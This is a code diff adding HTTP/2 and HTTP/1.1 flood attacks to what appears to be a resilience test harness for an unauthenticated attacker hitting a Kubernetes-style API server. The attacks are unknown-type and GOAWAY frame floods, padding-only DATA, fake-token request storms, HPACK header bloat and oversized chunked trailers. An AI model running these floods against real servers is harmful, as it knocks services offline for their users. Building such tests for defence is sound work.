@@ -1,5 +1,15 @@
 import { flags, frame, frameTypes, literals } from '../raw-http2.ts';
-import { type Hostile, http2, nextTurn, openHttp2, openTcp, openTls, uint32, type Victim } from './open-connections.ts';
+import {
+  type Hostile,
+  http2,
+  nextTurn,
+  openAgain,
+  openHttp2,
+  openTcp,
+  openTls,
+  uint32,
+  type Victim,
+} from './open-connections.ts';
 
 /** What somebody without a credential does, until the process ends. */
 export type Attack = (victim: Victim) => Promise<void> | void;
@@ -45,6 +55,24 @@ function unread(victim: Victim, connections: number, streams: number, path: stri
   );
 }
 
+/** Sends so many requests at once on each connection, and as many again when they are answered. */
+function askAgain(
+  victim: Victim,
+  connections: number,
+  count: number,
+  more: (at: number) => readonly (readonly [string, string])[],
+): void {
+  let stream = 0;
+  times(connections, () =>
+    openAgain(victim, count, () => {
+      stream += count;
+      return requests(count, more, stream - count);
+    }),
+  );
+}
+
+/** PADDED. RFC 9113, section 6.1. */
+const padded = 8;
 const frames = (count: number, one: Buffer) => Buffer.concat(times(count, () => one));
 const floodFrames = (victim: Victim, connections: number, block: Buffer) =>
   flood(
@@ -123,6 +151,48 @@ export const attacks: Readonly<Record<string, Attack>> = {
     );
   },
   'HTTP/2: frames of a type that nobody knows': (victim) => floodFrames(victim, 8, frames(500, frame(0xee, 0, 0))),
+  'HTTP/2: frames of 16 KB of a type that nobody knows': (victim) =>
+    floodFrames(victim, 8, frames(10, frame(0xee, 0, 0, Buffer.alloc(16 * 1024)))),
+  'HTTP/2: answers to SETTINGS that nobody sent': (victim) =>
+    floodFrames(victim, 8, frames(500, frame(frameTypes.settings, flags.ack, 0))),
+  'HTTP/2: GOAWAY': (victim) => floodFrames(victim, 8, frames(500, frame(frameTypes.goaway, 0, 0, Buffer.alloc(8)))),
+  'HTTP/2: DATA of padding alone': (victim) => {
+    const block = frames(
+      200,
+      frame(frameTypes.data, padded, 1, Buffer.concat([Buffer.from([254]), Buffer.alloc(254)])),
+    );
+    return flood(
+      times(8, () => openHttp2(victim, [openStream], true)),
+      () => block,
+    );
+  },
+  'HTTP/2: DATA for streams that have ended': (victim) => {
+    const block = frames(20, frame(frameTypes.data, 0, 1, Buffer.alloc(1_000)));
+    return flood(
+      times(8, () => openHttp2(victim, [requests(1, () => [[':path', '/%zz']])], true)),
+      () => block,
+    );
+  },
+  'HTTP/2: bad paths, 200 at once, as fast as they are answered': (victim) =>
+    askAgain(victim, 16, 200, () => [[':path', '/%zz']]),
+  'HTTP/2: made-up tokens, 200 at once, as fast as they are refused': (victim) =>
+    askAgain(victim, 16, 200, (at) => [
+      [':path', '/api/v1/pods'],
+      ['authorization', madeUp(at)],
+    ]),
+  'HTTP/2: heads of 5,000 fields of one byte': (victim) => {
+    // Each is indexed at 62, once the first has been remembered. RFC 7541, 6.1 and 6.2.1.
+    const fields = Buffer.concat([Buffer.from([0x40, 1, 0x78, 1, 0x61]), Buffer.alloc(5_000, 0xbe)]);
+    const head = Buffer.concat([http2.head([['authorization', madeUp(0)]]), fields]);
+    let stream = 1;
+    return flood(
+      times(8, () => openHttp2(victim, [], true)),
+      () => {
+        stream += 2;
+        return frame(frameTypes.headers, whole, stream, head);
+      },
+    );
+  },
   'HTTP/2: one remembered field of 4 KB, referred to 15,000 times a head': (victim) => {
     // Remembered with incremental indexing (RFC 7541, 6.2.1), then indexed at 62.
     const name = Buffer.from([0x40, 1, 0x78]);
@@ -220,6 +290,16 @@ export const attacks: Readonly<Record<string, Attack>> = {
         return openTls(victim, `${head1('POST /api/v1/namespaces/default/pods', more)}\r\n`, { reads: true });
       }),
       () => block,
+    );
+  },
+  'HTTP/1.1: trailers of 60 KB, for made-up tokens': (victim) => {
+    const trailers = times(600, (at) => `x-${at}: ${'a'.repeat(90)}\r\n`).join('');
+    return flood(
+      times(16, () => openTls(victim, '', { reads: true })),
+      () => {
+        const more = `Authorization: ${madeUp(0)}\r\nTransfer-Encoding: chunked\r\n`;
+        return `${head1('POST /api/v1/namespaces/default/pods', more)}\r\n1\r\nx\r\n0\r\n${trailers}\r\n`;
+      },
     );
   },
   'HTTP/1.1: 500 upgrades that nobody completes': (victim) => {
